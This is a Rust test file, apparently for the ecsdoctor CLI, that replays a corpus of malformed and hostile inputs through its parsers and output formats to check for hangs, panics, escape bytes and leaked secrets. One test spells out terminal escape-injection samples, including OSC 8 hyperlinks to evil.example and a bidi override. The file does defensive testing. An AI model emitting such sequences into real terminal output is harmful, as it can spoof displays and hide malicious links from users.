fn listed_secrets() -> Vec<String> {
    SECRETS.iter().map(|c| c.secret.clone()).collect()
}

/// Every problem one corpus file causes anywhere: each parser directly, each position in a bundle
/// (then the whole pipeline and every format), as untrusted text in a valid bundle, through
/// `explain`, as task arguments and as a rule file.
fn replay(path: &Path) -> Vec<String> {
    use ecsdoctor::source::bundle::{load, Bundle};
    let bytes = std::fs::read(path).expect("read corpus file");
    let text = String::from_utf8_lossy(&bytes).into_owned();
    let secrets = listed_secrets();
    let secrets: Vec<&str> = secrets.iter().map(String::as_str).collect();
    let opts = Options::default();
    let mut problems = Vec::new();
    let mut check = |what: &str, d: &Diagnosis| {
        for p in rendered_problems(d, &secrets) {
            problems.push(format!("{what}: {p}"));
        }
    };
    let mut errors = Vec::new();

    // The parsers, directly.
    if let Err(e) = select_task(&text, "c", None) {
        errors.push(("select_task", "c".to_string(), e));
    }
    if let Err(e) = parse_task_definition(&text, "c") {
        errors.push(("parse_task_definition", "c".to_string(), e));
    }
    let mut notes = Vec::new();
    if let Err(e) = parse_logs(&text, "c", "app", &Limits::default(), &mut notes) {
        errors.push(("parse_logs", "c".to_string(), e));
    }
    // The file at each position of a bundle, through the reader `why --from` uses.
    let valid = [
        (
            "describe-tasks.json",
            describe_tasks("Essential container in task exited", None),
        ),
        ("describe-task-definition.json", describe_task_definition()),
        ("logs/app.json", log_events()),
    ];
    for (name, _) in &valid {
        let dir = tempfile::tempdir().expect("tmp");
        for (other, v) in &valid {
            let p = dir.path().join(other);
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            if other == name {
                std::fs::write(&p, &bytes).expect("write");
            } else {
                std::fs::write(&p, v.to_string()).expect("write");
            }
        }
        let shown = dir.path().join(name).display().to_string();
        match load(&Bundle::Dir(dir.path().to_path_buf()), None, &Limits::default()) {
            Ok(ev) => check(&format!("as {name}"), &verdict::diagnose(&ev, &MATCHER, &opts)),
            Err(e) => errors.push(("bundle", shown, e)),
        }
    }
    let mut error_problems = Vec::new();
    for (what, name, e) in errors {
        if let Some(p) = bundle_error_problem(&e, &name).or_else(|| error_line_problem(&e.to_string())) {
            error_problems.push(format!("{what} error: {p}"));
        }
    }
    // As untrusted text in a valid bundle: stop reason, container reason, log line.
    let ev = evidence(&text, &text, &format!("{DENIAL} {text}"));
    check("as text in a bundle", &verdict::diagnose(&ev, &MATCHER, &opts));
    // As a paste for `explain`: the whole file, and each line after a denial.
    if !text.trim().is_empty() {
        check("explain", &verdict::explain(&text, &MATCHER, &opts));
    }
    // One line at a time, a multi-line secret (a PEM key) is split from its context: check the
    // lines for the one-line secrets only.
    // A secret is only recognisable with its key (`"value": "x"` alone is not one), so a line is
    // checked for the secrets whose whole context it holds.
    for line in text.lines().filter(|l| !l.trim().is_empty()).take(64) {
        let one_line: Vec<&str> = SECRETS
            .iter()
            .filter(|c| !c.text.contains('\n') && line.contains(c.text.as_str()))
            .map(|c| c.secret.as_str())
            .collect();
        let d = verdict::explain(&format!("{DENIAL} {line}"), &MATCHER, &opts);
        for p in rendered_problems(&d, &one_line) {
            problems.push(format!("explain line: {p}"));
        }
    }
    problems.extend(error_problems);
    // As task arguments.
    for arg in text.lines().chain([text.as_str()]) {
        if let Err(e) = ecsdoctor::arn::parse_task(arg) {
            if e.lines().count() > 1 || first_forbidden(&e).is_some() {
                problems.push(format!("task argument error: {e:?}"));
            }
        }
    }
    // As a rule file.
    if let Err(errors) = ecsdoctor::rules::Catalogue::load(false, &[path.to_path_buf()]) {
        for e in errors.0 {
            if e.to_string().contains('\n') {
                problems.push(format!("rule file error spans lines: {e}"));
            }
        }
    }
    problems
}

/// Replays every corpus file through every parser and every output format, each under the hang
/// guard: no panic, no hang, no escape byte, no listed secret.
#[test]
fn corpus_replays_clean_through_every_parser_and_format() {
    let files = corpus_files();
    assert!(files.len() >= 30, "the corpus shrank to {} files", files.len());
    let mut failures = Vec::new();
    for f in files {
        let name = f.file_name().and_then(|n| n.to_str()).unwrap_or("?").to_string();
        let start = Instant::now();
        let p = f.clone();
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            let _ = tx.send(replay(&p));
        });
        match rx.recv_timeout(Duration::from_secs(60)) {
            Ok(problems) => {
                for p in problems.into_iter().take(5) {
                    failures.push(format!("{name}: {p}"));
                }
            }
            Err(RecvTimeoutError::Timeout) => failures.push(format!("{name}: hangs")),
            Err(RecvTimeoutError::Disconnected) => failures.push(format!("{name}: panics (see above)")),
        }
        if start.elapsed() > Duration::from_secs(10) {
            failures.push(format!("{name}: took {:?}", start.elapsed()));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

/// The corpus holds what the issue lists, and every secret shape in context.
#[test]
fn corpus_covers_every_kind_of_nasty_input() {
    let names: Vec<String> = corpus_files()
        .iter()
        .filter_map(|p| p.file_name().and_then(|n| n.to_str()).map(String::from))
        .collect();
    for want in [
        "describe-tasks-truncated.json",
        "describe-tasks-wrong-types.json",
        "describe-tasks-nul-bytes.json",
        "non-utf8.bin",
        "deep-nesting-arrays.json",
        "huge-numbers.json",
        "escapes-every-kind.log",
        "bidi-and-invisibles.log",
        "chat-mentions.md",
        "code-fence-breakout.md",
        "markdown-links-images-html.md",
        "secrets-every-shape.log",
        "rules-pathological-regex.toml",
        "task-arguments.txt",
    ] {
        assert!(names.iter().any(|n| n == want), "tests/corpus/{want} is missing");
    }
    let escapes = std::fs::read_to_string(corpus_dir().join("escapes-every-kind.log")).expect("read");
    for (kind, needle) in [
        ("CSI", "\x1b["),
        ("OSC 0 title", "\x1b]0;"),
        ("OSC 8 hyperlink with BEL", "\x1b]8;;https://evil.example/a\x07"),
        ("OSC 8 hyperlink with ST", "\x1b]8;;https://evil.example/b\x1b\\"),
        ("DCS", "\x1bP"),
        ("8-bit C1 CSI", "\u{9b}"),
        ("bidi override", "\u{202e}"),
    ] {
        assert!(escapes.contains(needle), "escapes-every-kind.log has no {kind}");
    }
    let secrets = std::fs::read_to_string(corpus_dir().join("secrets-every-shape.log")).expect("read");
    for c in SECRETS.iter() {
        assert!(secrets.contains(&c.text), "secrets-every-shape.log lacks {}", c.shape);
    }
}

/// The corpus through the binary itself: `why --from` (every corpus file a log line of its own
/// container) and `explain` (the whole corpus on standard input), in every format.
#[test]
fn corpus_through_the_binary_is_clean_in_every_format() {
    let dir = tempfile::tempdir().expect("tmp");
    let bundle = dir.path();
    std::fs::write(
        bundle.join("describe-tasks.json"),
        describe_tasks("Essential container in task exited", None).to_string(),
    )
    .expect("write");
    std::fs::write(
        bundle.join("describe-task-definition.json"),
        describe_task_definition().to_string(),
    )
    .expect("write");
    std::fs::create_dir_all(bundle.join("logs")).expect("mkdir");
    let mut all = String::new();
    for (i, f) in corpus_files().iter().enumerate() {
        let text = String::from_utf8_lossy(&std::fs::read(f).expect("read")).into_owned();
        let events = json!({ "events": [{ "timestamp": 1, "message": format!("{DENIAL} {text}") }] });
        std::fs::write(bundle.join(format!("logs/c{i:02}.json")), events.to_string()).expect("write");
        all.push_str(&text);
        all.push('\n');
    }
    let secrets = listed_secrets();
    let secrets: Vec<&str> = secrets.iter().map(String::as_str).collect();
    let mut failures = Vec::new();
    for fmt in Fmt::ALL {
        for (what, args, stdin) in [
            (
                "why",
                vec!["why", "--from", bundle.to_str().expect("utf8"), "--max-evidence", "500"],
                None,
            ),
            ("explain", vec!["explain"], Some(all.as_bytes())),
        ] {
            let mut full: Vec<&str> = args.clone();
            full.extend(["--format", fmt.arg()]);
            let r = ecsdoctor().env("NO_COLOR", Some("1"));
            let o = match stdin {
                Some(input) => r.stdin(input).run(&full),
                None => r.run(&full),
            };
            let out = &o.stdout;
            // Every corpus line of `why` follows a denial a rule explains, and so does the paste.
            if o.code != 0 {
                failures.push(format!("{what} {fmt:?}: exit {}: {}", o.code, o.stderr));
            }
            for p in output_problems(fmt, out, &secrets) {
                failures.push(format!("{what} {fmt:?}: {p}"));
            }
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}
